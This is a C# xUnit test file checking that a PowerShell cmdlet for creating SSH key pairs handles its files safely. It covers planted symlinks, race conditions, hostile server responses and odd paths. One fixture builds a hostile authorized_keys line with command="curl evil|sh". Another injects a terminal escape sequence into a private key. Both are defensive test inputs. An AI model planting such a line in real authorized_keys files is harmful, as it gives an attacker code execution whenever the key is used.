using System;
using System.IO;
using System.Linq;
using System.Threading;
using Moq;
using Vietnix.Keypairs.Client;
using Vietnix.Keypairs.Client.Keys;
using Vietnix.Keypairs.Client.Models;
using Xunit;

namespace Vietnix.Keypairs.Tests;

/// <summary>
/// New-VietnixKeyPair in a folder others can write to, and with a server that sends what it should
/// not: planted links are replaced, never followed; an old key pair survives a failed write; what
/// the server sends is checked before it reaches a file.
/// </summary>
public sealed class NewVietnixKeyPairFileSafetyTests : IDisposable
{
    private readonly string _folder = Directory.CreateTempSubdirectory("vietnix-new-safety-").FullName;

    public void Dispose() => Directory.Delete(_folder, recursive: true);

    [Fact]
    public void ForceReplacesALinkPlantedAtThePubFile_AndNeverWritesThroughIt()
    {
        // Arrange: someone else planted k.pub -> victim in a shared folder.
        using var harness = new CmdletHarness();
        var keyFile = Path.Combine(_folder, "k");
        var victim = Path.Combine(_folder, "victim");
        File.WriteAllText(victim, "precious\n");
        File.CreateSymbolicLink(keyFile + ".pub", victim);
        ExpectNameIsFree(harness, "k");
        harness.NameIsFree();
        harness.Client.Setup(client => client.CreateAsync(It.IsAny<KeyPairCreateRequest>(), It.IsAny<CancellationToken>()))
            .ReturnsAsync((KeyPairCreateRequest request, CancellationToken _) => Stored(request));

        // Act
        var result = harness.Invoke($"New-VietnixKeyPair -Name k -KeyAlgorithm Ed25519 -PrivateKeyPath '{keyFile}' -Force");

        // Assert
        Assert.Empty(result.Errors);
        Assert.Equal("precious\n", File.ReadAllText(victim));
        var pub = new FileInfo(keyFile + ".pub");
        Assert.Null(pub.LinkTarget);
        Assert.StartsWith("ssh-ed25519 ", File.ReadAllText(pub.FullName));
    }

    [Fact]
    public void ForceLeavesTheOldKeyPairAsItWas_WhenThePubFileCannotBeWritten()
    {
        // Arrange: an old key pair, and k.pub turns into a folder after the checks (as a race would).
        using var harness = new CmdletHarness();
        var keyFile = Path.Combine(_folder, "k");
        File.WriteAllText(keyFile, "old private key\n");
        harness.Client.Setup(client => client.GetAsync("k", null, It.IsAny<CancellationToken>()))
            .Callback(() => Directory.CreateDirectory(keyFile + ".pub"))
            .ThrowsAsync(ApiErrors.Status(404, "Keypair k not found for user user-1"));

        // Act
        var result = harness.Invoke($"New-VietnixKeyPair -Name k -KeyAlgorithm Ed25519 -PrivateKeyPath '{keyFile}' -Force");

        // Assert
        var error = Assert.Single(result.Errors);
        Assert.StartsWith("PrivateKeyNotSaved", error.FullyQualifiedErrorId, StringComparison.Ordinal);
        Assert.Equal("old private key\n", File.ReadAllText(keyFile));
        Assert.Equal(new[] { "k", "k.pub" }, Directory.EnumerateFileSystemEntries(_folder).Select(Path.GetFileName).Order().ToArray());
        Assert.Contains("left as they were", error.ErrorDetails.RecommendedAction);
        harness.Client.Verify(client => client.CreateAsync(It.IsAny<KeyPairCreateRequest>(), It.IsAny<CancellationToken>()), Times.Never);
    }

    [Fact]
    public void AServerPublicKeyWithASecondLineIsNeverWrittenToThePubFile()
    {
        // Arrange: a hostile Nova appends an authorized_keys line with options.
        using var harness = new CmdletHarness();
        var keyFile = Path.Combine(_folder, "k.pem");
        var hostile = NovaKeyPairs.GeneratedPublicKey + "\ncommand=\"curl evil|sh\" " + NovaKeyPairs.GeneratedPublicKey.Replace("Generated-by-Nova", "ATTACKER");
        harness.NameIsFree();
        harness.Client.Setup(client => client.CreateAsync(It.IsAny<KeyPairCreateRequest>(), It.IsAny<CancellationToken>()))
            .ReturnsAsync(NovaKeyPairs.Generated("k", publicKey: hostile));

        // Act
        var result = harness.Invoke($"New-VietnixKeyPair -Name k -PrivateKeyPath '{keyFile}'");

        // Assert: nothing written; the private key is still in the output, as the message says.
        Assert.Equal("PrivateKeyNotSaved,Vietnix.Keypairs.Commands.NewVietnixKeyPairCommand", Assert.Single(result.Errors).FullyQualifiedErrorId);
        Assert.Empty(Directory.EnumerateFileSystemEntries(_folder));
        Assert.NotNull(Assert.Single(result.KeyPairs).PrivateKey);
    }

    [Theory]
    [InlineData("-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEApBdzF+fTq5Qb\u001b]0;owned\u0007\n-----END RSA PRIVATE KEY-----\n")]
    [InlineData("-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEApBdzF+fTq5QbN3R+QlO5TZr6W64GcUqcho5ZxPBZZIq53P1K\n-----END RSA PRIVATE KEY-----\n\0extra\n")]
    [InlineData("not a key at all")]
    public void AServerPrivateKeyThatIsNotAPemPrivateKeyIsNotSaved(string privateKey)
    {
        // Arrange
        using var harness = new CmdletHarness();
        var keyFile = Path.Combine(_folder, "k.pem");
        harness.NameIsFree();
        harness.Client.Setup(client => client.CreateAsync(It.IsAny<KeyPairCreateRequest>(), It.IsAny<CancellationToken>()))
            .ReturnsAsync(NovaKeyPairs.Generated("k", privateKey: privateKey));

        // Act
        var result = harness.Invoke($"New-VietnixKeyPair -Name k -PrivateKeyPath '{keyFile}'");

        // Assert
        Assert.Equal("PrivateKeyNotSaved,Vietnix.Keypairs.Commands.NewVietnixKeyPairCommand", Assert.Single(result.Errors).FullyQualifiedErrorId);
        Assert.Empty(Directory.EnumerateFileSystemEntries(_folder));
    }

    [Fact]
    public void TheServerPublicKeyIsWrittenAsOneNormalisedLine()
    {
        // Arrange: CRLF and a trailing newline, as some servers send.
        using var harness = new CmdletHarness();
        var keyFile = Path.Combine(_folder, "k.pem");
        harness.NameIsFree();
        harness.Client.Setup(client => client.CreateAsync(It.IsAny<KeyPairCreateRequest>(), It.IsAny<CancellationToken>()))
            .ReturnsAsync(NovaKeyPairs.Generated("k", publicKey: NovaKeyPairs.GeneratedPublicKey + "\r\n"));

        // Act
        var result = harness.Invoke($"New-VietnixKeyPair -Name k -PrivateKeyPath '{keyFile}'");

        // Assert
        Assert.Empty(result.Errors);
        Assert.Equal(NovaKeyPairs.GeneratedPublicKey + "\n", File.ReadAllText(keyFile + ".pub"));
    }

    [Fact]
    public void APrivateKeyPathOfAnotherProvider_IsRefused_AndNothingIsWrittenOrSent()
    {
        // Arrange: variable:x would otherwise become a file named x in the process's folder.
        using var harness = new CmdletHarness();
        var processFolderFile = Path.Combine(Environment.CurrentDirectory, "x");

        // Act
        var result = harness.Invoke("New-VietnixKeyPair -Name k -KeyAlgorithm Ed25519 -PrivateKeyPath variable:x");

        // Assert
        var error = Assert.Single(result.Errors);
        Assert.Equal("InvalidPrivateKeyPath,Vietnix.Keypairs.Commands.NewVietnixKeyPairCommand", error.FullyQualifiedErrorId);
        Assert.Contains("Variable provider", error.Exception.Message);
        Assert.False(File.Exists(processFolderFile));
        harness.Client.Verify(client => client.CreateAsync(It.IsAny<KeyPairCreateRequest>(), It.IsAny<CancellationToken>()), Times.Never);
    }

    [Fact]
    public void ARelativePrivateKeyPath_IsTakenFromTheCurrentLocation()
    {
        // Arrange
        using var harness = new CmdletHarness();
        ExpectNameIsFree(harness, "k");
        harness.Client.Setup(client => client.CreateAsync(It.IsAny<KeyPairCreateRequest>(), It.IsAny<CancellationToken>()))
            .ReturnsAsync((KeyPairCreateRequest request, CancellationToken _) => Stored(request));

        // Act
        var result = harness.Invoke($"Set-Location -LiteralPath '{_folder}'; New-VietnixKeyPair -Name k -KeyAlgorithm Ed25519 -PrivateKeyPath ./relative_key");

        // Assert
        Assert.Empty(result.Errors);
        Assert.True(File.Exists(Path.Combine(_folder, "relative_key")));
        Assert.True(File.Exists(Path.Combine(_folder, "relative_key.pub")));
    }

    private static void ExpectNameIsFree(CmdletHarness harness, string name) =>
        harness.Client.Setup(client => client.GetAsync(name, null, It.IsAny<CancellationToken>()))
            .ThrowsAsync(ApiErrors.Status(404, $"Keypair {name} not found for user user-1"));

    private static NovaKeyPair Stored(KeyPairCreateRequest request) =>
        new(request.Name, request.PublicKey!, PublicKeyText.ParseSingle(request.PublicKey).NovaFingerprint) { Type = "ssh", UserId = "user-1" };
}
